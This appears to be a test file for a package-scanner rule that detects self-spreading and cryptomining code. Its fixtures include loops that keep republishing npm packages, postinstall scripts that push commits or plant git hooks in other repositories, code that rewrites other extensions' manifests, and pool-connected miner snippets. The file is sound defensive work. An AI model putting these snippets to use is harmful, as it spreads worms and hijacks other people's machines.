import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './self-spreading.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';

test("bad: what it looks for", () => {
  for (const code of [
    "require(\"child_process\").execSync(\"npm publish --access public\")",
    "const pool = \"stratum+tcp://pool.example.org:3333\"",
  ]) assert.equal(worst(code), 'critical', code);
  for (const code of [
    "start(\"xmrig\")",
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [
    "fetch(\"https://registry.example/-/whoami\", { headers })",
  ]) assert.equal(worst(code), 'medium', code);
});

test("bad: the same in Python", () => {
  for (const code of [
    "import subprocess\nsubprocess.run(\"twine upload dist/*\", shell=True)",
    "pool = \"stratum+ssl://pool\"",
  ]) assert.equal(worst(code, 'a.py'), 'critical', code);
});

test("good: what only looks like it", () => {
  for (const code of [
    "const help = \"Run npm publish when you are done\"",
    "require(\"child_process\").exec(\"npm install\")",
    "fetch(\"https://registry.example/left-pad\")",
    "// stratum+tcp://pool",
    "const stratum = geology.layer(\"tcp\")",
  ]) assert.equal(worst(code), 'nothing', code);
});

test("good: the same in Python", () => {
  for (const code of [
    "print(\"twine upload\")",
    "import subprocess\nsubprocess.run(\"twine check dist/*\", shell=True)",
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

test('good: the address alone, in a script that reaches nothing itself', () => {
  assert.equal(worst('const client = require("registry-client"); client.json("/-/whoami", options)'), 'low');
  assert.equal(worst('require("https").get({ host: h, path: "/-/whoami", headers: { authorization: a } })'), 'medium');
});

const found = (files: Record<string, string>, scripts: Record<string, string> = {}) => findingsOf(rule, files, { entry_points: ['index.js'], original: { scripts } }).map(({ severity, file }) => `${severity} ${file}`);

test('bad: packages are published without an end, or under names that are made up, whoever starts that', () => {
  const publish = 'const { execSync } = require("child_process"); const publish = () => execSync("npm publish --access public");';
  const pick = 'const pick = (list) => list[Math.floor(Math.random() * list.length)]; const title = () => `${pick(a)}-${pick(b)}`;';
  for (const code of [
    `${publish} while (true) { try { publish() } catch {} }`,
    `${publish} (async () => { for (;;) { write(); await wait(7000); publish() } })()`,
    `${publish} setInterval(publish, 7000)`,
    `${publish} ${pick} manifest.name = title(); fs.writeFileSync("package.json", JSON.stringify(manifest)); publish()`,
    `${publish} const fresh = () => ({ ...manifest, name: require("crypto").randomBytes(8).toString("hex") }); save(fresh()); publish()`,
  ]) assert.ok(found({ 'index.js': 'run()', 'auto.js': code }).includes('high auto.js'), code);
});

test('good: releases, tries that end, other names and registries of tests', () => {
  for (const code of [
    'const { execSync } = require("child_process"); for (const each of packages) execSync("npm publish", { cwd: each })',
    'const { execSync } = require("child_process"); while (true) { try { execSync("npm publish"); break } catch { wait() } }',
    'const { execSync } = require("child_process"); manifest.name = "@scope/" + manifest.name; manifest.version += "-" + Math.random(); execSync("npm publish")',
    'const { execSync } = require("child_process"); manifest.name = "t" + Math.random(); execSync("npm publish --registry http://localhost:4873")',
    'const { execSync } = require("child_process"); while (true) { execSync("npm view x version"); wait() }',
  ]) assert.ok(!found({ 'index.js': 'run()', 'auto.js': code }).includes('high auto.js'), code);
});

test('bad: what an installation starts commits and pushes, or writes what git runs into repositories that it looks for', () => {
  const scripts = { postinstall: 'node setup.js' };
  const walk = 'const fs = require("fs"); const { homedir } = require("os"); const { join } = require("path"); const { execFile, execSync } = require("child_process"); for (const each of fs.readdirSync(homedir())) { const dir = join(homedir(), each); ';
  for (const code of [
    `${walk} execSync("git -C " + dir + " push origin HEAD") }`,
    `${walk} execSync(\`cd \${dir} && git commit --no-verify -m x\`) }`,
    `${walk} const git = (...words) => execFile("git", ["-C", dir, ...words]); git("add", "."); git("commit", "-m", "x"); git("push") }`,
    `${walk} fs.writeFileSync(join(dir, ".git", "hooks", "post-checkout"), "#!/bin/sh") }`,
  ]) {
    assert.ok(found({ 'index.js': 'run()', 'setup.js': code }, scripts).includes('high setup.js'), code);
    assert.deepEqual(found({ 'index.js': 'run()', 'setup.js': code }, { release: 'node setup.js' }), [], code);
  }
  assert.ok(found({ 'index.js': 'run()', 'setup.js': 'require("./spread")', 'spread.js': `${walk} execSync("git push") }` }, scripts).includes('high spread.js'), 'another script that it loads');
});

test('good: hooks and settings of the project that installs it', () => {
  for (const code of [
    'require("child_process").execSync("git config core.hooksPath .husky")',
    'const fs = require("fs"); const root = require("child_process").execSync("git rev-parse --show-toplevel").toString().trim(); fs.writeFileSync(root + "/.git/hooks/pre-commit", "#!/bin/sh")',
    'const list = []; list.push("git"); require("child_process").spawnSync("git", ["submodule", "update", "--init"])',
    'const { execSync } = require("child_process"); execSync("git clone https://example.org/a.git"); console.log("then commit and push")',
  ]) assert.deepEqual(found({ 'index.js': 'run()', 'setup.js': code }, { postinstall: 'node setup.js' }), [], code);
  const tool = Object.fromEntries(Array.from({ length: 12 }, (_, index) => [`lib/${index}.js`, `require("./${index + 1}")`]));
  assert.deepEqual(found({ 'index.js': 'run()', 'setup.js': 'require("./lib/0")', ...tool, 'lib/12.js': 'require("child_process").execSync("git push --follow-tags")' }, { postinstall: 'node setup.js' }), [], 'a large tool for releases');
});

test('bad: a miner by hand; good: proofs of work that answer a question, queues of jobs, numbers that are used once', () => {
  const search = 'let nonce = 1; while (Date.now() < until) { if (mix(job.blob, nonce) < job.target) shares.push(nonce); nonce = (nonce + 1) >>> 0; }';
  const get = 'const job = await (await fetch(`${pool}/getjob?login=${wallet}`)).json();';
  const hand = 'fetch(`${pool}/submit`, { method: "POST", body: JSON.stringify({ login: wallet, job_id: job.id, nonce: shares[0] }) });';
  const mining = (code: string, more: Record<string, string> = {}): string[] => found({ 'index.js': code, ...more });
  for (const code of [
    `${get} ${search} ${hand}`,
    `${get} for (let n = 0; n < 1e6; n++) { const h = hash(job.blob + n); if (h <= job.target) { await fetch(pool + "/s?worker=a&job=" + job.id + "&nonce=" + n); } } `.replace('pool + "/s?worker=a&job=" + job.id + "&nonce=" + n', '`${pool}/s?job=${job.id}&nonce=${n}`'),
    `const net = require("net"); const s = net.connect(3333, pool); s.write(JSON.stringify({ method: "mining.authorize", params: [user] })); do { n += 1; if (sha(sha(head + n)).startsWith("0000")) s.write(JSON.stringify({ method: "mining.submit", params: [user, id, n] })); } while (on);`,
  ]) assert.deepEqual(mining(code), ['high index.js'], code);
  assert.deepEqual(mining(`require("./search"); ${get} ${hand}`, { 'search.js': search }), ['high index.js'], 'in two scripts');
  for (const code of [
    `${search} fetch("/captcha", { method: "POST", body: JSON.stringify({ challenge, nonce: shares[0], user }) });`,
    `${get} ${hand}`,
    'for (let i = 0; i < list.length; i++) { if (list[i].at < now) run(list[i], i); } fetch(queue, { body: JSON.stringify({ job_id: id, user }) });',
    'const nonce = randomBytes(12); fetch(url, { body: JSON.stringify({ job_id: id, nonce, user }) });',
    `${search} console.log({ job_id: 1, nonce, wallet });`,
  ]) assert.deepEqual(mining(code), [], code);
});

const IMPORTS = "const fs = require('fs'), path = require('path'), os = require('os');";
const HOME = "const home = path.join(os.homedir(), '.orchestra', 'extensions');";

test('bad: other extensions that are installed are changed in what they begin with, or get a copy', () => {
  for (const code of [
    `${HOME} for (const dir of fs.readdirSync(home)) { const file = path.join(home, dir, 'package.json'); const manifest = JSON.parse(fs.readFileSync(file, 'utf8')); manifest.main = 'more.js'; fs.writeFileSync(file, JSON.stringify(manifest)); }`,
    `${HOME} fs.readdirSync(home).forEach((dir) => { const file = path.join(home, dir, 'package.json'); const manifest = require(file); fs.writeFileSync(file, JSON.stringify({ ...manifest, main: 'more.js' })); });`,
    "const around = path.resolve(__dirname, '..', '..'); for (const dir of fs.readdirSync(around)) { const to = path.join(around, dir); const { main } = require(`${to}/package.json`); fs.cpSync(path.dirname(__dirname), path.join(to, 'more'), { recursive: true }); }",
    `${HOME} const own = path.resolve(__dirname, '..'); async function share() { const all = await fs.promises.readdir(home); await Promise.all(all.map((dir) => fs.promises.cp(own, path.join(home, dir, 'more'), { recursive: true }))); } share();`,
    `${HOME} for (const dir of fs.readdirSync(home)) { const manifest = require(path.join(home, dir, 'package.json')); fs.appendFileSync(path.join(home, dir, manifest.main), LINE); }`,
  ]) assert.deepEqual(found({ 'index.js': "require('./lib/near');", 'lib/near.js': `${IMPORTS} ${code}` }), ['high lib/near.js'], code);
});

test('good: other extensions are listed, its own files copied, packages of a project released', () => {
  for (const code of [
    `${HOME} const all = fs.readdirSync(home).map((dir) => require(path.join(home, dir, 'package.json')).main); fs.writeFileSync('list.json', JSON.stringify(all));`,
    `${HOME} fs.cpSync(path.join(__dirname, '..'), path.join(home, 'demo-1.0.0'), { recursive: true }); for (const dir of fs.readdirSync(home)) if (dir.startsWith('demo-0.')) fs.rmSync(path.join(home, dir));`,
    "const around = path.resolve(__dirname, '..'); for (const dir of fs.readdirSync(around)) fs.cpSync(path.join(__dirname, 'a.txt'), path.join(around, dir, 'a.txt'));",
    "const root = path.join(process.cwd(), 'packages'); for (const dir of fs.readdirSync(root)) { const file = path.join(root, dir, 'package.json'); const manifest = require(file); manifest.main = 'dist/index.js'; fs.writeFileSync(file, JSON.stringify(manifest)); }",
    `${HOME} for (const dir of fs.readdirSync(home)) { const file = path.join(home, dir, 'seen.json'); fs.writeFileSync(file, '{}'); }`,
    "const around = path.resolve(__dirname, '..', '..'); for (const dir of fs.readdirSync(around)) { const file = path.join(around, dir, 'table.json'); fs.writeFileSync(file, JSON.stringify(require(file), null, 2)); }",
  ]) assert.deepEqual(found({ 'index.js': "require('./lib/near');", 'lib/near.js': `${IMPORTS} ${code}` }), [], code);
});

test('a miner that speaks the protocol of a pool, with a program that tries numbers, also in workers made of text', () => {
  const found = (code: string): boolean => findingsOf(rule, { 'index.js': code }, { dialect: 'formula', entry_points: ['index.js'] }).some(({ message }) => message.startsWith('numbers are tried'));
  const pool = (id: string) => `const ws = new WebSocket("wss://pool.kit.example"); ws.onopen = () => ws.send(JSON.stringify({ method: "login", params: { login: WALLET, pass: "x" } })); const hand = (job, nonce) => ws.send(JSON.stringify({ method: "submit", params: { ${id}: job.id, nonce } }));`;
  const turn = 'const turn = (job, n) => { for (let nonce = n; nonce < n + 2000; nonce++) if (hash.rx(job.seed, nonce) < job.target) hand(job, nonce); };';
  const worker = 'const source = `onmessage = ({ data }) => { for (let nonce = 0; ; nonce++) if (hash(data.blob, nonce) < data.target) { postMessage({ nonce }); break; } };`; new Worker(URL.createObjectURL(new Blob([source])));';
  const all = 'const job = `let ws = new WebSocket("wss://pool.kit.example"), n = 0; ws.onopen = () => ws.send(JSON.stringify({ method: "login", params: { login: "48abc" } })); ws.onmessage = async (e) => { const j = JSON.parse(e.data).params; for (;;) { const h = await digest(j.blob + n++); if (h[0] === 0 && h[1] === 0) ws.send(JSON.stringify({ method: "submit", params: { job_id: j.job_id, nonce: n } })); } };`; new Worker(URL.createObjectURL(new Blob([job])));';
  for (const code of [pool('id') + turn, pool('job_id') + worker, pool('id') + worker, all]) assert.ok(found(code), code);
  for (const code of [pool('id'), pool('job_id') + 'const source = `onmessage = ({ data }) => { for (const each of data) postMessage(each * 2); };`; new Worker(URL.createObjectURL(new Blob([source])));', `${turn} fetch("https://captcha.kit.example", { method: "POST", body: JSON.stringify({ method: "submit", nonce, login }) });`]) assert.ok(!found(code), code);
});
